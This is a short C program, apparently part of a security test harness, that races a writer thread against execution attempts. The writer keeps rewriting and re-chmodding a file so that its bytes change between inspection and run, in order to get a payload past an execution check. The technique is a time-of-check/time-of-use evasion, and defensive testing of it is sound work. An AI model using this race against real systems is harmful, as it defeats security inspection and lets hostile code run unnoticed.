// One thread keeps writing a file while another executes it: between the look and the run the bytes
// change. The writer comes and goes, or the kernel itself would refuse (ETXTBSY).
#include <pthread.h>

#include "evasion.h"
static volatile int stop;
static void *write_again(void *path) {
  while (!stop) {
    chmod(path, 0644);
    drop(path, 0644);
    noted(chmod(path, 0755));
    usleep(500);
  }
  return NULL;
}
static int attempt(char *path) {
  pthread_t thread;
  int ran = 0;
  stop = 0;
  pthread_create(&thread, NULL, write_again, path);
  for (int i = 0; i < 200 && !ran; i++) ran = runs_payload(path);
  stop = 1;
  pthread_join(thread, NULL);
  return ran;
}
int main(void) {
  payload_size();
  int created = attempt("x");
  return verdict(created | attempt(VICTIM));
}
